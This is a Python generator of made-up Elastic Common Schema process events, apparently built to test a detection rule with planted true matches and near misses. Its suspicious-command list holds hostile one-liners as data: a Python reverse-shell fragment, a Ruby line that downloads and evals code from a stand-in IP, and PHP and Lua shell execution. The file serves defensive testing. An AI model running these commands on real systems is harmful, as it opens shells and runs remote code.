"""Made-up process events in the shape of the Elastic Common Schema, the same ones every time.

Every 200th is a true match of the example rule, about one in fifteen a near miss: a suspicious command for which one
condition of the rule does not hold. Values vary as they do in life: names and paths repeat, ids and hashes never do.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from typing import Any

MATCH_EVERY = 200

Document = dict[str, Any]
Command = tuple[str, list[str]]

_START = datetime(2026, 3, 2, 6, 30, tzinfo=UTC)
_EVERYDAY: list[Command] = [
    ("/bin/bash", ["bash", "-c", 'for f in /var/spool/in/*; do gzip -9 "$f"; done']),
    ("/usr/bin/stat", ["stat", "--format=%s", "/srv/queue/head"]),
    ("/usr/bin/rsync", ["rsync", "-az", "--delete", "/srv/media/", "backup@10.20.0.5:/srv/media/"]),
    ("/usr/bin/openssl", ["openssl", "x509", "-in", "/etc/ssl/certs/site.pem", "-noout", "-enddate"]),
    ("/usr/bin/dpkg", ["dpkg", "--configure", "-a"]),
    ("/usr/sbin/logrotate", ["logrotate", "/etc/logrotate.conf"]),
    ("/usr/local/bin/envoy", ["envoy", "-c", "/etc/envoy/envoy.yaml", "--log-level", "warn"]),
    ("/usr/bin/make", ["make", "-j4", "install", "PREFIX=/usr/local"]),
    ("/usr/bin/ssh", ["ssh", "-o", "BatchMode=yes", "deploy@10.20.3.14", "uptime"]),
    ("/usr/lib/postgresql/16/bin/postgres", ["postgres", "-D", "/var/lib/postgresql/16/main"]),
    ("/usr/bin/tail", ["tail", "-n", "200", "-F", "/var/log/nginx/access.log"]),
    ("/usr/bin/containerd", ["containerd", "--config", "/etc/containerd/config.toml"]),
]
_HARMLESS: list[Command] = [
    ("/usr/bin/python3.12", ["python3.12", "/opt/jobs/nightly.py", "--since", "yesterday"]),
    ("/usr/bin/python3.12", ["python3.12", "-c", "import sys; print(sys.version)"]),
    ("/usr/bin/perl", ["perl", "-pe", "s/\\r$//", "notes.txt"]),
    ("/usr/bin/ruby3.2", ["ruby3.2", "/opt/fluentd/bin/fluentd", "-c", "/etc/fluent.conf"]),
    ("/usr/bin/php8.3", ["php8.3", "artisan", "schedule:run"]),
]
_SUSPICIOUS: list[Command] = [
    ("/usr/bin/python3.12", ["python3.12", "-c", "import os,pty,socket;s=socket.socket();os.dup2(s.fileno(),0)"]),
    (
        "/usr/local/bin/python",
        ["python", "-c", "__import__('zlib').decompress(__import__('base64').b64decode(b'eJw='))"],
    ),
    ("/usr/bin/perl5.36", ["perl5.36", "-e", "use IO::Handle; SYSTEM('id')"]),
    ("/usr/bin/php8.3", ["php8.3", "-r", "echo shell_exec(base64_decode('aWQ='));"]),
    ("/usr/bin/ruby3.2", ["ruby3.2", "-e", "require 'open-uri'; eval(URI.open('http://203.0.113.9/x').read)"]),
    ("/usr/bin/ruby3.2", ["ruby3.2", "-ezlib=1;Process.spawn('sh')"]),
    ("/usr/bin/lua5.4", ["lua5.4", "-e", "local f = io.popen('id'); print(f:read('a'))"]),
]
_WINDOWS: list[Command] = [
    ("C:\\Windows\\System32\\taskhostw.exe", ["taskhostw.exe", "/RuntimeWide"]),
    ("C:\\Windows\\System32\\dllhost.exe", ["dllhost.exe", "/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"]),
    ("C:\\Program Files\\Git\\cmd\\git.exe", ["git.exe", "-c", "core.autocrlf=true", "status", "--porcelain"]),
]
_PARENTS = [
    "/usr/bin/bash",
    "/usr/bin/dash",
    "/usr/lib/systemd/systemd",
    "/usr/bin/containerd-shim-runc-v2",
    "/usr/bin/tini",
]
_USERS = [("0", "root"), ("33", "www-data"), ("999", "postgres"), ("1000", "deploy"), ("1001", "ci")]
_IMAGES = [
    ("registry.local/edge/proxy", "3.4.1"),
    ("registry.local/batch/worker", "2026.02"),
    ("docker.io/library/ruby", "3.2"),
]


def make_events(count: int, seed: int = 20260302) -> Iterator[tuple[Document, bool]]:
    """Yield documents, each with whether it is a true match of the example rule."""
    random = Random(seed)
    time = _START
    for number in range(1, count + 1):
        time += timedelta(milliseconds=random.randrange(1, 250))
        if number % MATCH_EVERY == 0:
            yield _suspicious(random, number, time), True
        elif random.random() < 0.07:
            document = _suspicious(random, number, time)
            random.choice(_SPOILERS)(document)
            yield document, False
        elif random.random() < 0.1:
            yield _windows(random, number, time), False
        else:
            command = random.choice(_HARMLESS if random.random() < 0.1 else _EVERYDAY)
            document = _linux(random, number, time, command, interactive=random.random() < 0.2)
            if random.random() < 0.3:
                _spoil_container(document)
            if random.random() < 0.2:
                random.choice((_spoil_action, _spoil_type))(document)
            yield document, False


def write_events(path: Path, count: int) -> set[str]:
    """Write events as NDJSON; return `event.id` of the true matches."""
    matches = set()
    with path.open("wb") as file:
        for document, is_match in make_events(count):
            file.write(json.dumps(document, separators=(",", ":")).encode() + b"\n")
            if is_match:
                matches.add(document["event"]["id"])
    return matches


def _suspicious(random: Random, number: int, time: datetime) -> Document:
    return _linux(random, number, time, random.choice(_SUSPICIOUS), interactive=True)


def _linux(random: Random, number: int, time: datetime, command: Command, *, interactive: bool) -> Document:
    uid, user = random.choice(_USERS)
    host = random.randrange(60)
    image, tag = random.choice(_IMAGES)
    process = _process(random, time, command, interactive=interactive)
    parent = random.choice(_PARENTS)
    process["parent"] = _process(random, time - timedelta(minutes=3), (parent, [parent]), interactive=interactive)
    process["session_leader"] = {
        "entity_id": _hex(random, 32),
        "pid": random.randrange(2, 9999),
        "interactive": interactive,
    }
    process["user"] = {"id": uid, "name": user}
    document = _common(random, number, time, f"edge-{host:02}", "linux", "Debian GNU/Linux", "12 (bookworm)")
    document["event"] |= {"action": "exec", "dataset": "cloud_defend.process", "module": "cloud_defend"}
    document["container"] = {
        "id": _hex(random, 64),
        "image": {"name": image, "tag": [tag]},
        "name": image.rpartition("/")[2],
    }
    document["orchestrator"] = {
        "cluster": {"name": "eu-central"},
        "namespace": "shop",
        "resource": {"ip": [f"10.42.{host}.7"], "name": f"worker-{_hex(random, 5)}", "type": "pod"},
    }
    document["process"] = process
    document["user"] = {"id": uid, "name": user}
    return document


def _windows(random: Random, number: int, time: datetime) -> Document:
    document = _common(random, number, time, f"office-{random.randrange(40):02}", "windows", "Windows", "10.0.22631")
    document["event"] |= {"action": "start", "dataset": "endpoint.events.process", "module": "endpoint"}
    document["process"] = _process(random, time, random.choice(_WINDOWS), interactive=False)
    explorer = "C:\\Windows\\explorer.exe"
    document["process"]["parent"] = _process(random, time, (explorer, [explorer]), interactive=False)
    document["process"]["code_signature"] = {
        "exists": True,
        "status": "trusted",
        "subject_name": "Microsoft Windows",
        "trusted": True,
    }
    document["process"]["Ext"] = {"ancestry": [_hex(random, 44) for _ in range(4)], "authentication_id": "0x3e7"}
    document["user"] = {"domain": "NT AUTHORITY", "id": "S-1-5-18", "name": "SYSTEM"}
    return document


def _common(random: Random, number: int, time: datetime, host: str, system: str, name: str, version: str) -> Document:
    return {
        "@timestamp": _text(time),
        "agent": {"id": f"{_hex(random, 8)}-aaaa-4000-8000-{number:012}", "type": "endpoint", "version": "9.2.0"},
        "data_stream": {"dataset": "process", "namespace": "default", "type": "logs"},
        "ecs": {"version": "8.17.0"},
        "event": {
            "category": ["process"],
            "id": f"{_hex(random, 10)}-{number}",
            "ingested": _text(time + timedelta(milliseconds=random.randrange(300, 4000))),
            "kind": "event",
            "sequence": number,
            "type": ["start"],
        },
        "host": {
            "architecture": "x86_64",
            "hostname": host,
            "id": _hex(random, 32),
            "ip": [f"10.20.{random.randrange(250)}.{random.randrange(250)}", "127.0.0.1", "::1"],
            "name": host,
            "os": {"family": system, "full": f"{name} {version}", "name": name, "type": system, "version": version},
        },
    }


def _process(random: Random, time: datetime, command: Command, *, interactive: bool) -> Document:
    executable, args = command
    return {
        "args": list(args),
        "args_count": len(args),
        "command_line": " ".join(args),
        "entity_id": _hex(random, 32),
        "executable": executable,
        "interactive": interactive,
        "name": executable.replace("\\", "/").rpartition("/")[2],
        "pid": random.randrange(2, 99_999),
        "start": _text(time),
        "working_directory": "/srv/app" if executable.startswith("/") else "C:\\Windows\\System32\\",
    }


def _spoil_container(document: Document) -> None:
    del document["container"], document["orchestrator"]
    document["event"] |= {"dataset": "endpoint.events.process", "module": "endpoint"}


def _spoil_interactive(document: Document) -> None:
    document["process"]["interactive"] = False


def _spoil_action(document: Document) -> None:
    document["event"]["action"] = "fork"


def _spoil_type(document: Document) -> None:
    document["event"] |= {"action": "end", "type": ["end"]}
    document["process"]["exit_code"] = 0


def _spoil_parent(document: Document) -> None:
    del document["process"]["parent"]["executable"]


def _spoil_command(document: Document) -> None:
    document["process"] |= {"args": document["process"]["args"][:1], "args_count": 1}


_SPOILERS: list[Callable[[Document], None]] = [
    _spoil_container,
    _spoil_interactive,
    _spoil_action,
    _spoil_type,
    _spoil_parent,
    _spoil_command,
]


def _hex(random: Random, length: int) -> str:
    return f"{random.getrandbits(4 * length):0{length}x}"


def _text(time: datetime) -> str:
    return f"{time:%Y-%m-%dT%H:%M:%S}.{time.microsecond // 1000:03}Z"
